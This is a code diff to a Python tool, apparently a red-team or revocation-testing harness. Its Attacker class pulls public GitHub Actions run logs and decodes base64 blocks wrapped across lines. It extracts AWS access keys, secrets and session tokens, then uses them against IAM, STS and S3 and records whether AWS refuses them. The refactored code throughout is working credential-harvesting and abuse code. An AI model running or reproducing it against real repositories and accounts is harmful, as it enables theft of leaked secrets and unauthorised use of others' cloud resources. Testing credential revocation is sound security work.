@@ -27,8 +27,10 @@ REFUSALS = {
 }  # fmt: skip
 _RUN = re.compile(r"/([\w.-]+/[\w.-]+)/actions/runs/(\d+)")
 _LINE = re.compile(r"^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d+Z ?", re.MULTILINE)
+_WRAPPED = re.compile(r"^(?:[A-Za-z0-9+/]{20,}\n)*[A-Za-z0-9+/]+={0,2}$", re.MULTILINE)
 _KEY = re.compile(r"AWS_ACCESS_KEY_ID=(\S+)")
 _SECRET = re.compile(r"AWS_SECRET_ACCESS_KEY=(\S+)")
+_TOKEN = re.compile(r"AWS_SESSION_TOKEN=(\S+)")
 
 
 class NothingFound(Exception):
@@ -68,16 +70,19 @@ class Attacker:
     def read_log(self, run_url: str) -> Loot:
         """The key in a run's public log. Raises ``NothingFound`` when there is none to be had."""
         for text in decoded_log(self._github, self._token, run_url):
-            key, secret = _KEY.search(text), _SECRET.search(text)
-            if key and secret:
-                return Loot(key[1], secret[1])
+            if (loot := key_in(text)) is not None:
+                return loot
         raise NothingFound("no key in the log")
 
     def abuse(self, run_url: str) -> list[dict[str, Any]]:
         """Take the key from the log and use it. Returns the acts with what came of each."""
-        self.loot = {"key": self.read_log(run_url)}
-        acts: list[dict[str, Any]] = [{"act": "github:ReadRunLog", "ok": True, "code": "", "made": ""}]
-        key = self.loot["key"]
+        key = self.read_log(run_url)
+        return [{"act": "github:ReadRunLog", "ok": True, "code": "", "made": ""}, *self.use(key)]
+
+    def use(self, key: Loot) -> list[dict[str, Any]]:
+        """Use a key, or a session, for all that it is worth. Returns the acts with what came of each."""
+        self.loot = {"key": key}
+        acts: list[dict[str, Any]] = []
         iam, sts = self.client("iam", key), self.client("sts", key)
 
         def act(name: str, made: str, call: Callable[[], Any]) -> Any:
@@ -126,17 +131,17 @@ class Attacker:
             if name not in self.loot:
                 continue
             loot = self.loot[name]
-            identity = _code(self.client("sts", loot).get_caller_identity)
+            identity = code_of(self.client("sts", loot).get_caller_identity)
             code = self.probe(loot)
             found.append({"name": name, "refused": code in REFUSALS, "code": code, "identity_code": identity})
         return found
 
     def probe(self, loot: Loot) -> str:
         """What a real call (s3:ListBuckets) with some loot is answered: a code, or '' when it passes."""
-        return _code(self.client("s3", loot).list_buckets)
+        return code_of(self.client("s3", loot).list_buckets)
 
 
-def _code(call: Callable[[], Any]) -> str:
+def code_of(call: Callable[[], Any]) -> str:
     """What AWS said: a code, or '' when it let the call pass."""
     try:
         call()
@@ -162,11 +167,22 @@ def decoded_log(github: str, token: str, run_url: str) -> Iterator[str]:
         raise NothingFound(f"the log answers {found.status_code}")
     with zipfile.ZipFile(io.BytesIO(found.content)) as archive:
         for name in archive.namelist():
-            plain = _LINE.sub("", archive.read(name).decode(errors="replace")).replace("\r", "")
-            for block in re.findall(r"^(?:[A-Za-z0-9+/]{20,}\n)*[A-Za-z0-9+/]+={0,2}$", plain, re.MULTILINE):
-                packed = re.sub(r"\s", "", block)
-                with contextlib.suppress(binascii.Error):  # a word that stands alone in a line
-                    yield base64.b64decode(packed[: len(packed) // 4 * 4]).decode(errors="replace")
+            yield from decoded(archive.read(name).decode(errors="replace"))
+
+
+def decoded(log: str) -> Iterator[str]:
+    """What stands as base64 in a log, which may be wrapped over lines."""
+    plain = _LINE.sub("", log).replace("\r", "")
+    for block in _WRAPPED.findall(plain):
+        packed = re.sub(r"\s", "", block)
+        with contextlib.suppress(binascii.Error):  # a word that stands alone in a line
+            yield base64.b64decode(packed[: len(packed) // 4 * 4]).decode(errors="replace")
+
+
+def key_in(text: str) -> Loot | None:
+    """The key in a printed environment, with its token where it is a session's."""
+    key, secret, token = _KEY.search(text), _SECRET.search(text), _TOKEN.search(text)
+    return Loot(key[1], secret[1], token[1] if token else None) if key and secret else None
 
 
 def _everything() -> str:
